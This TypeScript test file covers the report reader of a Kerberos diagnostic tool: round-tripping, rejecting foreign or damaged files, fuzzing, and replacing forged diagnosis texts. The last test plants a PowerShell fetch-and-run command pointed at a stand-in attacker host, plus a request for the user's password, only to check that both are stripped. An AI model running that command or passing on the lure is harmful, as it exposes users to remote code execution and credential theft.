import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { KerbProbeError } from '../../../electron/engine/errors';
import { readReport } from '../../../electron/engine/report/read-report';
import { redact } from '../../../electron/engine/report/redact';
import { renderJson } from '../../../electron/engine/report/render-json';
import { failingReport, passingReport } from './sample-report';
import { catalogEntry } from '../../../electron/engine/diagnose/catalog';
import { diagnosisFor } from '../../../electron/engine/diagnose/classify';

const code = (fn: () => unknown): string => {
  try {
    fn();
  } catch (err) {
    assert.ok(err instanceof KerbProbeError, `typed error, got ${String(err)}`);
    return err.code;
  }
  return 'NO_ERROR';
};

test('reports round-trip through renderJson and readReport', () => {
  for (const r of [passingReport(), failingReport()]) assert.deepEqual(readReport(renderJson(r)), r);
  // A redacted report keeps every value but its diagnosis texts, which are the catalogue's when it is read
  // (redaction may have rewritten a catalogue example that looked like a name).
  const red = redact(failingReport());
  assert.deepEqual(readReport(renderJson(red)), {
    ...red,
    diagnosis: { ...red.diagnosis!, ...failingReport().diagnosis!, evidence: red.diagnosis!.evidence },
  });
  assert.deepEqual(readReport(`\ufeff${renderJson(passingReport())}`), passingReport(), 'a BOM from Notepad is fine');
});

test('files that are not ours are refused with REPORT_NOT_OURS', () => {
  assert.equal(
    code(() => readReport('Current LogonId is 0:0x3a7f21\r\nCached Tickets: (3)')),
    'REPORT_NOT_OURS',
  );
  assert.equal(
    code(() => readReport('{"name":"package","version":"1.0.0"}')),
    'REPORT_NOT_OURS',
  );
  assert.equal(
    code(() => readReport('[1,2,3]')),
    'REPORT_NOT_OURS',
  );
  assert.equal(
    code(() => readReport('null')),
    'REPORT_NOT_OURS',
  );
  assert.equal(
    code(() => readReport('')),
    'REPORT_NOT_OURS',
  );
});

test('damaged or future reports are refused with REPORT_INVALID naming the field', () => {
  const doc = JSON.parse(renderJson(failingReport())) as Record<string, unknown>;
  const err = (() => {
    try {
      readReport(JSON.stringify({ ...doc, verdict: 'maybe' }));
    } catch (e) {
      return e as KerbProbeError;
    }
    return null;
  })();
  assert.equal(err?.code, 'REPORT_INVALID');
  assert.match(err?.message ?? '', /verdict/);
  assert.equal(
    code(() => readReport(JSON.stringify({ ...doc, schemaVersion: 2 }))),
    'REPORT_INVALID',
  );
  assert.equal(
    code(() => readReport(JSON.stringify({ ...doc, diagnosis: { ...(doc.diagnosis as object), code: 'NOT_A_CODE' } }))),
    'REPORT_INVALID',
  );
  assert.equal(
    code(() => readReport(' '.repeat(5_000_001))),
    'REPORT_INVALID',
  );
});

test('arbitrary and mutated input only ever gives the typed errors', () => {
  const good = renderJson(failingReport());
  fc.assert(
    fc.property(fc.string({ maxLength: 500 }), (s) => {
      const c = code(() => readReport(s));
      assert.ok(c === 'REPORT_NOT_OURS' || c === 'REPORT_INVALID', c);
    }),
    { seed: 4242, numRuns: 2000 },
  );
  fc.assert(
    fc.property(
      fc.integer({ min: 0, max: good.length - 1 }),
      fc.integer({ min: 1, max: 40 }),
      fc.string({ maxLength: 8 }),
      (at, len, ins) => {
        const mutated = good.slice(0, at) + ins + good.slice(at + len);
        const c = code(() => readReport(mutated));
        assert.ok(['REPORT_NOT_OURS', 'REPORT_INVALID', 'NO_ERROR'].includes(c), c);
      },
    ),
    { seed: 4243, numRuns: 2000 },
  );
});

test("an opened report shows the catalogue texts for its code, never the file's", () => {
  const r = failingReport();
  r.diagnosis = {
    ...diagnosisFor('CLOCK_SKEW', ['clock 9 min ahead']),
    title: 'Call the helpdesk and read them your password',
    cause: 'forged',
    fixUser: 'Run iwr https://evil.example/x | iex',
    fixHelpdesk: 'Ask the user for their password',
  };
  const read = readReport(JSON.stringify(r));
  const cat = catalogEntry('CLOCK_SKEW');
  assert.equal(read.diagnosis?.title, cat.title);
  assert.equal(read.diagnosis?.cause, cat.cause);
  assert.equal(read.diagnosis?.fixUser, cat.fixUser);
  assert.equal(read.diagnosis?.fixHelpdesk, cat.fixHelpdesk);
  assert.deepEqual(read.diagnosis?.evidence, ['clock 9 min ahead'], 'evidence stays evidence');
  assert.doesNotMatch(JSON.stringify(read), /password|iex/);
});
